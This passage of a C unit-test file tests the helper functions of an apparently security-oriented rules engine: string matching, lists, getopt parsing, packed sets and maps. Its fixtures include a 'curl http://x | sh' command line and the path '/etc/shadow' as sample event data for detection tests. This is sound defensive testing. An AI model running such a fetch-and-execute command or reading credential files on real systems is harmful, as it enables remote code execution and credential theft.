/* SPDX-License-Identifier: Apache-2.0 */
/* The helpers: a table for each, sets against naive search, and hostile sets. */
#include "test.h"
#include "engine/helpers/helpers.h"
#include "engine/maps/maps.h"

#include <errno.h>

#define S(text)                        \
	{                              \
		text, sizeof(text) - 1 \
	}

static const struct helper_str args_list[] = { S("sh"), S("-c"), S("curl http://x | sh"), S("") };
static const struct helper_value values[] = {
	{ .kind = HELPER_VALUE_STR, .len = 11, .p = "/etc/shadow" },
	{ .kind = HELPER_VALUE_STR, .len = 0, .p = NULL },
	{ .kind = HELPER_VALUE_LIST, .len = 4, .list = args_list },
	{ .kind = HELPER_VALUE_LIST, .len = 0, .list = NULL },
	{ .kind = HELPER_VALUE_IP, .len = 4, .p = "\x0a\x01\x02\x03" },
	{ .kind = HELPER_VALUE_IP, .len = 16, .p = "\x20\x01\x0d\xb8\0\0\0\0\0\0\0\0\0\0\0\x05" },
};
enum { SHADOW = 1, EMPTY, ARGS, NO_ARGS, IP4, IP6, N_VALUES_PLUS_1 };

static struct helper_env env_new(void)
{
	return (struct helper_env){ .values = values, .n_values = countof(values) };
}

/* Call a helper that must not find its handle bad. */
static int64_t ask(uint32_t id, uint64_t a1, uint64_t a2, const void *a3, uint64_t a4, uint64_t a5)
{
	struct helper_env env = env_new();
	uint64_t args[ABI_MAX_ARGS] = { a1, a2, (uint64_t)(uintptr_t)a3, a4, a5 };
	int64_t r = (int64_t)helper_call(helper_lookup(id), &env, args);

	CHECK(!env.bad_handle);
	return r;
}

static int64_t ask_str(uint32_t id, uint64_t handle, const void *mem, size_t len)
{
	struct helper_env env = env_new();
	uint64_t args[ABI_MAX_ARGS] = { handle, (uint64_t)(uintptr_t)mem, len };
	int64_t r = (int64_t)helper_call(helper_lookup(id), &env, args);

	CHECK(!env.bad_handle);
	return r;
}

TEST(every_helper_of_the_table_has_an_implementation)
{
	for (uint32_t i = 0; i < abi_sallyport.n_helpers; i++)
		CHECK(helper_lookup(abi_sallyport.helpers[i].id));
	CHECK(!helper_lookup(0));
	CHECK(!helper_lookup(999));
	CHECK(!helper_lookup(UINT32_MAX));
}

TEST(string_predicates_answer_as_the_rules_language_says)
{
	static const struct {
		uint32_t id;
		const char *arg;
		bool on_shadow, on_empty; /* "/etc/shadow", "" */
					  // clang-format off
	} rows[] = {
		{ ABI_HELPER_str_eq, "/etc/shadow", 1, 0 }, { ABI_HELPER_str_eq, "/etc/shado", 0, 0 },
		{ ABI_HELPER_str_eq, "/etc/shadowx", 0, 0 }, { ABI_HELPER_str_eq, "/etc/Shadow", 0, 0 }, { ABI_HELPER_str_eq, "", 0, 1 },
		{ ABI_HELPER_str_startswith, "/etc/", 1, 0 }, { ABI_HELPER_str_startswith, "", 1, 1 },
		{ ABI_HELPER_str_startswith, "/etc/shadow", 1, 0 }, { ABI_HELPER_str_startswith, "/etc/shadow-", 0, 0 },
		{ ABI_HELPER_str_endswith, "shadow", 1, 0 }, { ABI_HELPER_str_endswith, "", 1, 1 },
		{ ABI_HELPER_str_endswith, "x/etc/shadow", 0, 0 }, { ABI_HELPER_str_endswith, "/etc/shadow", 1, 0 }, { ABI_HELPER_str_endswith, "shado", 0, 0 },
		{ ABI_HELPER_str_contains, "c/s", 1, 0 }, { ABI_HELPER_str_contains, "", 1, 1 },
		{ ABI_HELPER_str_contains, "C/S", 0, 0 }, { ABI_HELPER_str_contains, "/etc/shadow", 1, 0 }, { ABI_HELPER_str_contains, "/etc/shadow!", 0, 0 },
		{ ABI_HELPER_str_icontains, "C/S", 1, 0 }, { ABI_HELPER_str_icontains, "", 1, 1 },
		{ ABI_HELPER_str_icontains, "SHADOW", 1, 0 }, { ABI_HELPER_str_icontains, "shadoww", 0, 0 }, { ABI_HELPER_str_icontains, "x", 0, 0 },
		{ ABI_HELPER_str_glob, "/etc/*", 1, 0 }, { ABI_HELPER_str_glob, "*", 1, 1 }, { ABI_HELPER_str_glob, "/ETC/*", 0, 0 },
		{ ABI_HELPER_str_iglob, "/ETC/*", 1, 0 }, { ABI_HELPER_str_iglob, "", 0, 1 },
	};
	// clang-format on

	for (size_t i = 0; i < countof(rows); i++) {
		test_row = rows[i].arg;
		CHECK_EQ(ask_str(rows[i].id, SHADOW, rows[i].arg, strlen(rows[i].arg)), rows[i].on_shadow);
		CHECK_EQ(ask_str(rows[i].id, EMPTY, rows[i].arg, strlen(rows[i].arg)), rows[i].on_empty);
	}
}

TEST(comparison_is_by_bytes_and_a_prefix_comes_first)
{
	CHECK_EQ(ask_str(ABI_HELPER_str_cmp, SHADOW, "/etc/shadow", 11), 0);
	CHECK_EQ(ask_str(ABI_HELPER_str_cmp, SHADOW, "/etc/shadow0", 12), -1);
	CHECK_EQ(ask_str(ABI_HELPER_str_cmp, SHADOW, "/etc/shado", 10), 1);
	CHECK_EQ(ask_str(ABI_HELPER_str_cmp, SHADOW, "\xff", 1), -1);
	CHECK_EQ(ask_str(ABI_HELPER_str_cmp, EMPTY, "", 0), 0);
	CHECK_EQ(ask_str(ABI_HELPER_str_cmp, EMPTY, "a", 1), -1);
}

TEST(lists_are_asked_element_by_element)
{
	struct helper_env env = env_new();

	CHECK_EQ(ask(ABI_HELPER_list_len, ARGS, 0, NULL, 0, 0), 4);
	CHECK_EQ(ask(ABI_HELPER_list_len, NO_ARGS, 0, NULL, 0, 0), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_contains, "curl", 4, 0), 1);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_contains, "curl", 4, 3), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_eq, "sh", 2, 0), 1);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_eq, "sh", 2, 1), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_eq, "", 0, 3), 1);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_eq, "", 0, 4), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_eq, "", 0, UINT64_MAX), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, NO_ARGS, ABI_HELPER_str_contains, "", 0, 0), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_cmp, "sh", 2, 0), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_list_any, "sh", 2, 0), 0);
	CHECK_EQ(ask(ABI_HELPER_list_any, ARGS, ABI_HELPER_str_eq | 1ull << 32, "sh", 2, 0), 0);
	for (uint64_t i = 0; i < 4; i++) {
		uint64_t h = (uint64_t)ask(ABI_HELPER_list_get, ARGS, i, NULL, 0, 0);

		CHECK_EQ(ask_str(ABI_HELPER_str_eq, h, args_list[i].p, args_list[i].len), 1);
	}
	CHECK_EQ(ask(ABI_HELPER_list_get, ARGS, 4, NULL, 0, 0), 0);
	CHECK_EQ(ask(ABI_HELPER_list_get, ARGS, UINT64_MAX, NULL, 0, 0), 0);
	/* An element is a string, not a list. */
	(void)helper_call(helper_lookup(ABI_HELPER_list_len), &env, (uint64_t[ABI_MAX_ARGS]){ ARGS | 1ull << 32 });
	CHECK(env.bad_handle);
}

TEST(a_handle_of_another_kind_is_bad_for_every_helper)
{
	for (uint32_t i = 0; i < abi_sallyport.n_helpers; i++) {
		const struct abi_helper *h = &abi_sallyport.helpers[i];
		uint64_t bad[] = {
			0, N_VALUES_PLUS_1, UINT64_MAX, 1ull << 32, ARGS | 5ull << 32, IP4 | 1ull << 32, 0, 0
		};

		if (h->args[0] != ABI_ARG_HANDLE || h->id == ABI_HELPER_tmp_push)
			continue; /* what takes a handle of any kind: see below */
		bad[6] = h->id >= ABI_HELPER_list_any && h->id <= ABI_HELPER_dict_at ? SHADOW : ARGS;
		bad[7] = h->id >= ABI_HELPER_ip_eq ? IP4 | 2ull << 32 : IP4;
		test_row = h->name;
		for (size_t k = 0; k < countof(bad); k++) {
			struct helper_env env = env_new();
			uint64_t args[ABI_MAX_ARGS] = { bad[k], (uint64_t)(uintptr_t) "", 0, 0, 0 };

			CHECK_EQ(helper_call(helper_lookup(h->id), &env, args), 0);
			CHECK(env.bad_handle);
		}
	}
}

/* ---- computed values ---- */

static struct helper_tmp tmp;

static uint64_t call_tmp(uint32_t id, uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4)
{
	struct helper_env env = env_new();
	uint64_t args[ABI_MAX_ARGS] = { a1, a2, a3, a4 };

	env.tmp = &tmp;
	return helper_call(helper_lookup(id), &env, args);
}

static void push_text(const char *s, bool forget)
{
	call_tmp(ABI_HELPER_tmp_text, (uintptr_t)s, strlen(s), forget, 0);
}

/* The topmost value is this text, or with NULL there is none. */
static void expect_top(const char *want)
{
	struct helper_env env = env_new();
	uint64_t h = call_tmp(ABI_HELPER_tmp_get, 0, 0, 0, 0);

	if (!want) {
		CHECK_EQ(h, 0);
		return;
	}
	CHECK(h != 0);
	env.tmp = &tmp;
	CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_str_eq), &env,
			     (uint64_t[ABI_MAX_ARGS]){ h, (uintptr_t)want, strlen(want) }),
		 1);
}

static void expect_list(const char *const *want, uint32_t n)
{
	struct helper_env env = env_new();
	uint64_t h = call_tmp(ABI_HELPER_tmp_get, 0, 0, 0, 0);

	CHECK(h != 0);
	env.tmp = &tmp;
	CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_list_len), &env, (uint64_t[ABI_MAX_ARGS]){ h }), n);
	for (uint32_t i = 0; i < n; i++) {
		uint64_t e = helper_call(helper_lookup(ABI_HELPER_list_get), &env, (uint64_t[ABI_MAX_ARGS]){ h, i });

		CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_str_eq), &env,
				     (uint64_t[ABI_MAX_ARGS]){ e, (uintptr_t)want[i], strlen(want[i]) }),
			 1);
	}
}

TEST(texts_are_transformed_one_by_one)
{
	static const struct {
		enum helper_tmp_op op;
		const char *in, *out;
	} rows[] = {
		{ HELPER_TMP_LOWER, "AbC\xc4-9", "abc\xc4-9" },
		{ HELPER_TMP_UPPER, "aBz{", "ABZ{" },
		{ HELPER_TMP_BASENAME, "/a/b", "b" },
		{ HELPER_TMP_BASENAME, "/a/", "" },
		{ HELPER_TMP_BASENAME, "a", "a" },
		{ HELPER_TMP_B64, "", "" },
		{ HELPER_TMP_B64, "YQ==", "a" },
		{ HELPER_TMP_B64, "YQ", "a" },
		{ HELPER_TMP_B64, "YWI=", "ab" },
		{ HELPER_TMP_B64, "YWJj", "abc" },
		{ HELPER_TMP_B64, "YR==", NULL }, /* bits of no byte */
		{ HELPER_TMP_B64, "Y", NULL },
		{ HELPER_TMP_B64, "YQ===", NULL },
		{ HELPER_TMP_B64, "Y Q=", NULL },
	};

	for (size_t i = 0; i < countof(rows); i++) {
		test_row = rows[i].in;
		push_text(rows[i].in, true);
		CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, rows[i].op, 1, 0, 0), rows[i].out != NULL);
		expect_top(rows[i].out);
	}
}

TEST(several_values_become_one)
{
	push_text("a", true);
	push_text("", false);
	push_text("bc", false);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_CONCAT, 3, 0, 0), 1);
	expect_top("abc");
	push_text(", ", true);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_push, ARGS, 0, 0, 0), 1);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_JOIN, 2, 0, 0), 1);
	expect_top("sh, -c, curl http://x | sh, ");
	push_text("x", true);
	push_text("y", false);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, 2, 0, 0), 1);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_UPPER, 1, 0, 0), 1);
	expect_list((const char *const[]){ "X", "Y" }, 2);
	push_text("", true);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, 0, 0, 0), 1);
	expect_list(NULL, 0);
}

/* args and options are separated by a space; * for the empty argument. */
TEST(options_are_read_as_getopt_reads_them)
{
	static const struct {
		const char *args, *options;
		char option;
		const char *want; /* a text, or the list's elements; NULL: no value */
	} rows[] = {
		{ "-a -b v x", "ab:", 0, "a b v" }, { "-abv", "ab:", 0, "a b v" },  { "-ab v", "ab:", 0, "a b v" },
		{ "-ab v", "ab:", 'b', "v" },       { "-ab v", "ab:", 'a', "a" },   { "-a -a", "a", 'a', "a" },
		{ "-b x -b y", "b:", 'b', "y" },    { "-b", "b:", 'b', "*" },       { "-b", "b:", 0, "*" },
		{ "-x -a", "a", 0, "? a" },         { "-x -a", "a", 'x', NULL },    { "-a", "ab", 'b', NULL },
		{ "x -a", "a", 'a', NULL },         { "-- -a", "a", 'a', NULL },    { "- -a", "a", 'a', NULL },
		{ "* -a", "a", 'a', NULL },         { "--long -a", "a", 'a', "a" }, { "-b -a", "ab:", 'a', NULL },
		{ "-b -- -a", "ab:", 'a', "a" },    { "-: -a", ":a", 0, "? a" },    { "-b *", "b:", 'b', "*" },
	};

	for (size_t i = 0; i < countof(rows); i++) {
		char args[64], want[64], *at, *word;
		const char *list[8];
		uint32_t n = 0;

		test_row = rows[i].args;
		(void)snprintf(args, sizeof args, "%s", rows[i].args);
		push_text("", true);
		for (at = args; (word = strsep(&at, " ")) != NULL; n++)
			push_text(*word == '*' ? "" : word, false);
		CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, n, 0, 0), 1);
		push_text(rows[i].options, false);
		CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_GETOPT, (uint64_t)rows[i].option, 0, 0),
			 rows[i].want != NULL);
		if (!rows[i].want || rows[i].option) {
			expect_top(rows[i].want && *rows[i].want == '*' ? "" : rows[i].want);
			continue;
		}
		(void)snprintf(want, sizeof want, "%s", rows[i].want);
		for (at = want, n = 0; (word = strsep(&at, " ")) != NULL; n++)
			list[n] = *word == '*' ? "" : word;
		expect_list(list, n);
	}
}

TEST(what_has_no_value_or_no_room_ends_without_a_value_until_the_next_comparison)
{
	static char big[HELPER_TMP_BYTES + 1];

	memset(big, 'x', sizeof big - 1);
	/* nothing to work on, and the wrong kinds */
	push_text("a", true);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_JOIN, 2, 0, 0), 0);
	push_text("b", false);
	expect_top(NULL);
	push_text("b", true);
	expect_top("b");
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_CONCAT, 2, 0, 0), 0);
	push_text("b", true);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_CONCAT, UINT64_MAX, 0, 0), 0);
	push_text("b", true);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, 2, 0, 0), 0);
	push_text("b", true);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_OPS, 0, 0, 0), 0);
	expect_top(NULL);
	/* the room's end, exactly */
	push_text(big, true);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_UPPER, 1, 0, 0), 1);
	push_text("x", false);
	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LOWER, 1, 0, 0), 0);
	expect_top(NULL);
	push_text("x", true);
	for (unsigned i = 1; i < HELPER_TMP_VALUES; i++)
		push_text("x", false);
	expect_top("x");
	push_text("x", false);
	expect_top(NULL);
	/* without room at all */
	CHECK_EQ(ask(ABI_HELPER_tmp_get, 0, 0, NULL, 0, 0), 0);
	CHECK_EQ(ask(ABI_HELPER_tmp_push, SHADOW, 1, NULL, 0, 0), 0);
	CHECK_EQ(ask(ABI_HELPER_tmp_apply, HELPER_TMP_UPPER, 1, NULL, 0, 0), 0);
}

TEST(a_handle_above_the_stack_is_bad)
{
	struct helper_env env = env_new();

	push_text("x", true);
	env.tmp = &tmp;
	CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_str_len), &env, (uint64_t[ABI_MAX_ARGS]){ N_VALUES_PLUS_1 }), 1);
	CHECK(!env.bad_handle);
	CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_str_len), &env, (uint64_t[ABI_MAX_ARGS]){ N_VALUES_PLUS_1 + 1 }),
		 0);
	CHECK(env.bad_handle);
	env.bad_handle = false;
	CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_tmp_push), &env, (uint64_t[ABI_MAX_ARGS]){ IP4 }), 0);
	CHECK(env.bad_handle);
}

TEST(dictionaries_are_read_by_key_and_by_place)
{
	static const struct helper_str pairs[] = { S("HOME=/root"), S("PATH=a=b"), S("BARE"), S("HOST=x") };
	static const struct helper_value dict[] = { { .kind = HELPER_VALUE_LIST, .len = 4, .list = pairs } };
	static const struct {
		const char *key, *want;
	} rows[] = { { "HOME", "/root" }, { "HO*", "/root" }, { "HOST", "x" }, { "PATH", "a=b" },
		     { "BARE", "" },      { "home", NULL },   { "", NULL },    { "HOME=", NULL } };

	for (size_t i = 0; i < countof(rows); i++) {
		struct helper_env env = { .values = dict, .n_values = 1, .tmp = &tmp };
		uint64_t args[ABI_MAX_ARGS] = { 1, (uintptr_t)rows[i].key, strlen(rows[i].key), 1 }, h;

		test_row = rows[i].key;
		h = helper_call(helper_lookup(ABI_HELPER_dict_key), &env, args);
		CHECK_EQ(h != 0, rows[i].want != NULL);
		if (h)
			CHECK_EQ(helper_call(
					 helper_lookup(ABI_HELPER_str_eq), &env,
					 (uint64_t[ABI_MAX_ARGS]){ h, (uintptr_t)rows[i].want, strlen(rows[i].want) }),
				 1);
	}
	for (uint64_t i = 0; i < 5; i++) {
		struct helper_env env = { .values = dict, .n_values = 1, .tmp = &tmp };

		CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_dict_at), &env, (uint64_t[ABI_MAX_ARGS]){ 1, i, 1 }) != 0,
			 i < 4);
	}
}

TEST(two_handles_are_compared_and_whole_lists_too)
{
	static const struct helper_str a[] = { S("x"), S("y"), S("x") }, b[] = { S("y"), S("x"), S("z") };
	static const struct helper_value v[] = { { .kind = HELPER_VALUE_LIST, .len = 3, .list = a },
						 { .kind = HELPER_VALUE_LIST, .len = 3, .list = b },
						 { .kind = HELPER_VALUE_LIST },
						 { .kind = HELPER_VALUE_STR, .len = 3, .p = "abc" },
						 { .kind = HELPER_VALUE_STR, .len = 2, .p = "bc" },
						 { .kind = HELPER_VALUE_STR, .len = 2, .p = "*c" } };
	static char big[HELPER_SLOW_OPERAND_BYTES + 1];
	struct helper_value slow = { .kind = HELPER_VALUE_STR, .len = sizeof big, .p = memset(big, '*', sizeof big) };
	struct helper_env env = { .values = v, .n_values = countof(v) };

#define ASK(id, ...) helper_call(helper_lookup(ABI_HELPER_##id), &env, (uint64_t[ABI_MAX_ARGS]){ __VA_ARGS__ })
	CHECK_EQ(ASK(list_in_list, 1, 2, 1), 1);
	CHECK_EQ(ASK(list_in_list, 2, 1, 1), 0);
	CHECK_EQ(ASK(list_in_list, 2, 1, 0), 1);
	CHECK_EQ(ASK(list_in_list, 3, 1, 0), 0);
	CHECK_EQ(ASK(list_in_list, 3, 1, 1), 0);
	CHECK_EQ(ASK(list_in_list, 1, 3, 0), 0);
	CHECK_EQ(ASK(list_all, 1, ABI_HELPER_str_eq, (uintptr_t) "x", 1, 0), 0);
	CHECK_EQ(ASK(list_all, 1, ABI_HELPER_str_eq, (uintptr_t) "x", 1, 2), 1);
	CHECK_EQ(ASK(list_all, 1, ABI_HELPER_str_eq, (uintptr_t) "x", 1, 3), 0);
	CHECK_EQ(ASK(list_all, 3, ABI_HELPER_str_contains, (uintptr_t) "", 0, 0), 0);
	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_endswith, 5), 1);
	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_glob, 6), 1);
	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_eq, 5), 0);
	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_in, 5), 0); /* what is packed is never an event's */
	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_regex, 6), 0);
	CHECK_EQ((int64_t)ASK(str_cmp2, 4, 5), -1);
	CHECK_EQ(ASK(str_cmp2, 5, 5), 0);
	CHECK(!env.bad_handle);
	env = (struct helper_env){ .values = &slow, .n_values = 1 };
	CHECK_EQ(ASK(str_test2, 1, ABI_HELPER_str_glob, 1), 0); /* too long for a pattern that an event brings */
	CHECK_EQ(ASK(str_test2, 1, ABI_HELPER_str_eq, 1), 1);
#undef ASK
}

TEST(map_helpers_give_what_linux_gives)
{
	struct prog_map hash = { .name = "h", .kind = PROG_MAP_HASH, .key_size = 4, .value_size = 4, .max_entries = 1 },
			array = {
				.name = "a", .kind = PROG_MAP_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1
			};
	struct map *h, *a, *ro;
	uint32_t key = 7, other = 8, zero = 0;

	CHECK_OK(map_new(&hash, &h, NULL));
	CHECK_OK(map_new(&array, &a, NULL));
	array.flags = PROG_MAP_RDONLY;
	CHECK_OK(map_new(&array, &ro, NULL));
#define LOOKUP(m, k) ask_str(ABI_HELPER_map_lookup_elem, (uint64_t)(uintptr_t)(m), &(k), 0)
#define UPDATE(m, k, flags) \
	ask(ABI_HELPER_map_update_elem, (uint64_t)(uintptr_t)(m), (uint64_t)(uintptr_t) & (k), &(k), flags, 0)
#define DELETE(m, k) ask_str(ABI_HELPER_map_delete_elem, (uint64_t)(uintptr_t)(m), &(k), 0)
	CHECK_EQ(LOOKUP(h, key), 0);
	CHECK_EQ(DELETE(h, key), -ENOENT);
	CHECK_EQ(UPDATE(h, key, MAP_EXIST), -ENOENT);
	CHECK_EQ(UPDATE(h, key, MAP_ANY), 0);
	CHECK_EQ(UPDATE(h, key, MAP_NOEXIST), -EEXIST);
	CHECK_EQ(UPDATE(h, other, MAP_ANY), -E2BIG);
	CHECK_EQ(UPDATE(h, key, 9), -EINVAL);
	CHECK_EQ(LOOKUP(h, key), (int64_t)(uintptr_t)map_lookup(h, &key));
	CHECK_EQ(DELETE(h, key), 0);
	CHECK_EQ(LOOKUP(a, key), 0);
	CHECK_EQ(UPDATE(a, key, 0), -EINVAL);
	CHECK_EQ(DELETE(a, zero), -EINVAL);
	CHECK_EQ(UPDATE(ro, zero, 0), -EPERM);
	CHECK_EQ(DELETE(ro, zero), -EPERM);
	map_free(h);
	map_free(a);
	map_free(ro);
}

/* --- packed sets --- */

static uint64_t rnd(uint64_t *s)
{
	*s += 0x9e3779b97f4a7c15ull;
	return hash_u64(*s);
}

/* Short strings over a tiny alphabet, so that prefixes and repeats are common. */
static struct helper_str random_str(uint64_t *seed, char *room, size_t most)
{
	uint32_t len = (uint32_t)(rnd(seed) % (most + 1));

	for (uint32_t i = 0; i < len; i++)
		room[i] = (char)('a' + (char)(rnd(seed) % 2) + (rnd(seed) % 16 ? 0 : (char)-128));
	return (struct helper_str){ room, len };
}

static bool naive_in(struct helper_str s, const struct helper_str *set, size_t n, bool prefix)
{
	for (size_t i = 0; i < n; i++)
		if ((prefix ? s.len >= set[i].len : s.len == set[i].len) && !memcmp(s.p, set[i].p, set[i].len))
			return true;
	return false;
}

static int64_t ask_set(uint32_t id, struct helper_str s, const void *set, size_t bytes)
{
	struct helper_value v = { .kind = HELPER_VALUE_STR, .len = s.len, .p = s.p };
	struct helper_env env = { .values = &v, .n_values = 1 };
	uint64_t args[ABI_MAX_ARGS] = { 1, (uint64_t)(uintptr_t)set, bytes };

	return (int64_t)helper_call(helper_lookup(id), &env, args);
}

TEST(packed_sets_answer_as_a_naive_search_does)
{
	static char room[64][10];
	uint64_t seed = 5;
	unsigned yes = 0;

	for (unsigned round = 0; round < 3000; round++) {
		struct helper_str strs[64], original[64];
		size_t n = rnd(&seed) % 64;
		struct buf b;

		buf_init(&b, 1 << 16);
		for (size_t i = 0; i < n; i++)
			strs[i] = original[i] = random_str(&seed, room[i], 10);
		CHECK_OK(helper_pack_set(strs, n, &b));
		for (unsigned q = 0; q < 30; q++) {
			char text[12];
			struct helper_str s = random_str(&seed, text, 12);
			bool in = naive_in(s, original, n, false), prefix = naive_in(s, original, n, true);

			CHECK_EQ(ask_set(ABI_HELPER_str_in, s, b.p, b.len), in);
			CHECK_EQ(ask_set(ABI_HELPER_str_startswith_in, s, b.p, b.len), prefix);
			yes += in + prefix;
		}
		buf_done(&b);
	}
	CHECK(yes > 1000);
}

TEST(pmatch_asks_every_path_of_its_set)
{
	struct helper_str paths[] = { S("/tmp"), S("/usr/*/evil"), S("/etc/pam.d/") };
	static const struct {
		struct helper_str path;
		bool want;
		// clang-format off
	} rows[] = {
		{ S("/tmp/x"), 1 }, { S("/tmpx"), 0 }, { S("/usr/lib/evil/x"), 1 }, { S("/usr/lib/good"), 0 },
		{ S("/etc/pam.d/sshd"), 1 }, { S("/etc/pam.d"), 1 }, { S("/etc"), 0 }, { S(""), 0 },
	};
	// clang-format on
	struct buf b;

	buf_init(&b, 1 << 16);
	CHECK_OK(helper_pack_set(paths, countof(paths), &b));
	for (size_t i = 0; i < countof(rows); i++) {
		test_row = rows[i].path.p;
		CHECK_EQ(ask_set(ABI_HELPER_str_pmatch, rows[i].path, b.p, b.len), rows[i].want);
	}
	buf_done(&b);
}

TEST(the_empty_set_has_nothing_in_it)
{
	struct buf b;

	buf_init(&b, 1 << 16);
	CHECK_OK(helper_pack_set(NULL, 0, &b));
	CHECK_EQ(b.len, 12);
	CHECK_EQ(ask_set(ABI_HELPER_str_in, (struct helper_str){ "", 0 }, b.p, b.len), 0);
	CHECK_EQ(ask_set(ABI_HELPER_str_startswith_in, (struct helper_str){ "a", 1 }, b.p, b.len), 0);
	CHECK_EQ(ask_set(ABI_HELPER_str_pmatch, (struct helper_str){ "/a", 2 }, b.p, b.len), 0);
	buf_done(&b);
}

/* docs/formats/packed-sets.md, byte by byte. */
static uint32_t documented_hash(struct helper_str s)
{
	uint64_t k = 0x9e3779b97f4a7c15ull, h = s.len * k;

	for (uint32_t i = 0; i < s.len; i += 8) {
		uint64_t w = 0;

		for (uint32_t j = i; j < s.len && j < i + 8; j++)
			w |= (uint64_t)(uint8_t)s.p[j] << 8 * (j - i);
		h = (h ^ w) * k;
		if (s.len - i >= 8)
			h ^= h >> 32;
	}
	h = (h ^ h >> 32) * k;
	return (uint32_t)(h >> 32);
}

/* What stands at a hash's own place; these three strings do not collide. */
static uint32_t slot_of(const struct buf *b, uint32_t hash)
{
	uint32_t slot;

	memcpy(&slot, b->p + 24 + (size_t)4 * (hash & 7), 4);
	return slot;
}

TEST(the_layout_is_the_documented_one)
{
	struct helper_str strs[] = { S("b"), S("ab"), S("b"), S("") };
	static const uint8_t head[] = { 3, 0, 0, 0, 8, 0, 0, 0, 56, 0, 0, 0, 56, 0, 0, 0, 58, 0, 0, 0, 59, 0, 0, 0 };
	static const uint8_t nets_want[] = { 1,    0,   0, 0, 1, 0, 0, 0, 10, 0x80, 0, 0, 255, 0x80, 0, 0,
					     0x20, 1,   0, 0, 0, 0, 0, 0, 0,  0,    0, 0, 0,   0,    0, 0,
					     255,  255, 0, 0, 0, 0, 0, 0, 0,  0,    0, 0, 0,   0,    0, 0 };
	static const struct helper_net nets[] = { { { 0x20, 1, 9 }, 16, 16 }, { { 10, 0xff, 3, 4 }, 4, 9 } };
	struct buf b;

	buf_init(&b, 1 << 16);
	CHECK_OK(helper_pack_set(strs, countof(strs), &b));
	CHECK_EQ(b.len, 59);
	CHECK(!memcmp(b.p, head, sizeof head));
	CHECK(!memcmp(b.p + 56, "abb", 3));
	for (unsigned i = 0; i < 3; i++)
		CHECK_EQ(slot_of(&b, documented_hash(strs[i])), (documented_hash(strs[i]) & 0xffff0000) | (i + 1));
	buf_reset(&b);
	helper_pack_nets(nets, countof(nets), &b);
	CHECK_EQ(b.len, sizeof nets_want);
	CHECK(!memcmp(b.p, nets_want, sizeof nets_want));
	buf_done(&b);
}

TEST(sets_over_their_limits_are_refused)
{
	static struct helper_str strs[65536];
	static char bytes[65536 + 4];
	struct buf b;

	buf_init(&b, 64 << 20);
	strs[0] = (struct helper_str){ bytes, 65536 };
	CHECK_EQ(helper_pack_set(strs, 1, &b), E_LIMIT);
	for (uint32_t i = 0; i < 65536; i++) {
		memcpy(bytes + i, &(uint8_t){ (uint8_t)hash_u64(i) }, 1);
		strs[i] = (struct helper_str){ bytes + i, 4 };
	}
	bytes[65536] = bytes[65537] = bytes[65538] = 1;
	for (uint32_t i = 0; i < 65535; i++) /* all different: numbers in place of text */
		strs[i].p = (const char *)memcpy(malloc(4), &i, 4);
	CHECK_OK(helper_pack_set(strs, 65535, &b));
	strs[65535].p = memcpy(malloc(4), &(uint32_t){ 65535 }, 4);
	CHECK_EQ(helper_pack_set(strs, 65536, &b), E_LIMIT);
	for (uint32_t i = 0; i < 65536; i++)
		free((void *)(uintptr_t)strs[i].p);
	buf_done(&b);
	buf_init(&b, 16);
	strs[0] = (struct helper_str)S("too long for the buffer");
	CHECK_EQ(helper_pack_set(strs, 1, &b), E_LIMIT);
	buf_done(&b);
}

/* Whatever the bytes, a reader stays inside them: each set is its own heap block, so that ASan sees one byte more. */
TEST(malformed_sets_answer_something_and_are_never_left)
{
	static const uint32_t ids[] = { ABI_HELPER_str_in, ABI_HELPER_str_pmatch, ABI_HELPER_str_startswith_in };
	uint64_t seed = 9;

	for (unsigned round = 0; round < 60000; round++) {
		size_t bytes = 1 + rnd(&seed) % 64;
		uint8_t *set = malloc(bytes);
		char text[8];
		struct helper_str s = random_str(&seed, text, 8);
		struct helper_env env = env_new();
